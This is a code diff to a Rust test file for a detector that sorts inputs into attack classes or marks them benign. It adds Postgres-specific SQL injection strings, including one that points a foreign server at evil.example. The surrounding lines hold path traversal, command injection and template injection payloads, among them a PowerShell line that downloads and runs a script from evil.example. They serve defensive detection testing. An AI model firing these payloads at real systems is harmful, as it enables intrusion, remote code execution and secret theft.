@@ -1386,7 +1386,20 @@ fn file_inclusion_shapes() {
 /// found flagged.
 #[test]
 fn review_hunt_shapes() {
-    assert_attacks(&["1+union+select+1,2,3--+", "-1+union+all+select+null,null--", "1+order+by+5--+", "admin' or 1 limit 1#", "admin' or true limit 1-- -", "\" or 1 limit 1#"], Class::Sqli);
+    assert_attacks(
+        &[
+            "1+union+select+1,2,3--+",
+            "-1+union+all+select+null,null--",
+            "1+order+by+5--+",
+            "admin' or 1 limit 1#",
+            "admin' or true limit 1-- -",
+            "\" or 1 limit 1#",
+            "'; CREATE EXTENSION dblink;--",
+            "1; CREATE EXTENSION plpython3u;--",
+            "'; CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example');--",
+        ],
+        Class::Sqli,
+    );
     assert_attacks(&["/etc/./passwd", "/etc//passwd", "//etc//shadow", "..//..//etc//passwd", "\\\\evil.example\\share\\x.php", "\\\\evil.example@SSL\\DavWWWRoot\\x.php", "\\\\10.0.0.5\\share\\evil.dll"], Class::Traversal);
     assert_attacks(&["& w^h^o^a^m^i", "| w^h^o^a^m^i", "; iex (iwr http://evil.example/p.ps1)", "; Start-Process calc.exe", "{{person.secret}}", "{{7*7}}", "{{settings.SECRET_KEY}}"], Class::Cmdi);
     assert_benign(
@@ -1401,6 +1414,8 @@ fn review_hunt_shapes() {
             "\\\\fs01\\reports\\daily.xlsx",
             "https://example.com//path//to",
             "C++ developer notes",
+            "Create extension list for the OMS",
+            "alter server settings tomorrow",
         ],
         Context::Auto,
     );
